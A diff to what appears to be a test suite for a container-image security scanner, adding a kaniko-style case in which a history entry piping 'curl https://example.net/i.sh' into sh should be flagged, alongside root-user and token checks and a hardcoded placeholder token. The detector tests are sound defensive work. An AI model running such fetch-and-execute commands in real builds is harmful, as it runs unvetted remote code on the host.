@@ -316,6 +316,9 @@ TOKEN = "hf_" + "aB3dE5gH7jK9mN1pQ3rS5tU7vW9xY1zA2c"
         ({"config": {"User": "app"}, "history": [
             {"created_by": "RUN /bin/sh -c curl https://example.net/i.sh | sh # buildkit"}]},
          ["curl https://example.net/i.sh | sh"]),
+        ({"config": {"User": "app"}, "history": [
+            {"created_by": "RUN curl https://example.net/i.sh | sh"}]},  # as kaniko writes it
+         ["curl https://example.net/i.sh | sh"]),
         ({"config": {"User": "0:0"}}, ["root"]),
         ({"config": {"Env": []}, "history": []}, ["root"]),
         ({"config": {"User": "1000", "Env": ["HF_TOKEN=changeme", "TOKEN_LIMIT=4096",
